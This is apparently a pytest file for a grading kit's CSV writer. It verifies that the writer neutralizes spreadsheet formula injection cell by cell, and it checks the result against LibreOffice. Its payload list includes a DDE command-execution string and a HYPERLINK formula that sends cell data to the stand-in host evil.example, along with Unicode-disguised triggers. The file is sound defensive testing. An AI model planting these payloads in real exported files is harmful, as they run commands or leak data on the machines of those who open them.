"""The one CSV writer (``descent.reports.spreadsheet``): no text a student chose becomes a
spreadsheet formula (OWASP, "CSV Injection"), checked cell by cell with the classic payloads and
against LibreOffice itself; numbers stay numbers. Every file of the kit written through it is
checked in tests/course/test_csv_injection.py."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import unicodedata

import pytest

from descent.reports import spreadsheet

BREAKS = "\t\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"  # str.splitlines' breaks, and the tab

pytestmark = pytest.mark.fast  # the fast lane: ./dev test --fast

PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"grades")',
    "\t=1+2",
    "\r=1+2",
    # issue 49: blanks before the formula, a fullwidth equals sign, a tab inside
    " =1+2",
    "\u00a0=1+2",
    "\u3000=1+2",
    "\u2003@SUM(1)",
    "\u200b+1+1",
    "\uff1d1+2",
    "ann\t=1+2",
    # issue 58: a formula after a vertical tab (a line break to str.splitlines and to readers
    # that split lines there), a minus before Arabic-Indic digits (Python's \\d took "-\u0663"
    # for a number), the minus sign, a small plus and a superscript plus (NFKC folds them)
    "x\x0b=1+2",
    "x\u2028=1+2",
    "-\u0663",
    "\u22121+1",
    "\ufe621+1",
    "\u207a1+1",
]


def _dangerous(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet could evaluate, however it trims and splits: a part (the whole cell,
    or a piece between tabs) that starts with a trigger once blanks and invisible characters
    are passed over, and is not a plain number."""
    found = []
    for row in rows:
        for c in row:
            for part in re.split(f"[{BREAKS}]", c):
                bare = part.lstrip("".join(chr(n) for n in range(0x21)))
                bare = bare.lstrip("\u00a0\u2000\u2001\u2002\u2003\u3000\u200b\ufeff")
                first = unicodedata.normalize("NFKC", bare[:1])
                opens = first in ("=", "+", "-", "@") or unicodedata.category(bare[:1] or "a") in (
                    "Sm",
                    "Pd",
                )
                if opens and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", bare):
                    found.append(c)
    return found


def _neutral(payload: str) -> str:
    """How the kit writes a payload: a quote in front, and in front of a part after a tab or a
    line break that would start a formula where a reader starts a cell or a line there."""
    return "'" + re.sub(f"([{BREAKS}])([=+@-])", r"\1'\2", payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_rule_on_one_cell(payload):
    written = next(csv.reader(io.StringIO(spreadsheet.render([[payload]]))))[0]
    # neutralized, and the text kept whole after the quote (a part after a tab that would
    # start a formula where tabs separate cells gets its own quote)
    assert written == _neutral(payload)
    assert _dangerous([[written]]) == [] and _dangerous([[payload]]) == [payload]


def test_libreoffice_reads_every_cell_as_text(tmp_path):
    """The real reader: LibreOffice Calc, headless, opens the file with commas or tabs as the
    separator, with and without "trim spaces", evaluating formulas. Each cell the kit writes is
    read as text; the same payloads written by a plain CSV writer give formulas (the check has
    teeth)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    kit = tmp_path / "kit.csv"
    kit.write_text(spreadsheet.render([[p] for p in PAYLOADS]), encoding="utf-8")
    plain = tmp_path / "plain.csv"
    with open(plain, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows([[p.strip()] for p in PAYLOADS])
    formulas = {}
    for name in ("kit", "plain"):
        for separator, trim in ((44, "false"), (44, "true"), (9, "false"), (9, "true")):
            source = tmp_path / f"{name}-{separator}-{trim}.csv"
            shutil.copy(tmp_path / f"{name}.csv", source)
            # CSV filter options: separator, text delimiter ("), UTF-8, first line, column
            # types, language, quoted as text, special numbers, (export x2), trim spaces,
            # (export), evaluate formulas
            options = f"CSV:{separator},34,76,1,,0,false,true,false,false,{trim},-1,true"
            profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
            subprocess.run(
                [soffice, profile, "--headless", f"--infilter={options}", "--convert-to",
                 "fods", "--outdir", str(tmp_path), str(source)],
                capture_output=True, timeout=300, check=True,
            )  # fmt: skip
            flat = source.with_suffix(".fods").read_text(encoding="utf-8")
            formulas[(name, separator, trim)] = re.findall(r'table:formula="([^"]*)"', flat)
    assert all(not found for (name, *_), found in formulas.items() if name == "kit"), formulas
    assert any(found for (name, *_), found in formulas.items() if name == "plain"), formulas


def test_numbers_stay_numbers_and_plain_text_stays_bare():
    # only text cells are neutralized: a negative penalty is a number a spreadsheet can add up
    assert spreadsheet.render([[-5, -5.0, "-5", "-2.5", 12.5, "ann", "Doe, Ann", None]]) == (
        '-5,-5.0,-5,-2.5,12.5,ann,"Doe, Ann",\n'
    )
    # a separator inside a cell is quoted, so no part of it can begin a cell of its own
    assert spreadsheet.render([["x;=1+2"]]) == '"x;=1+2"\n'
    assert spreadsheet.neutralized([["=1+2", "-5", "ann"]]) == ["=1+2"]
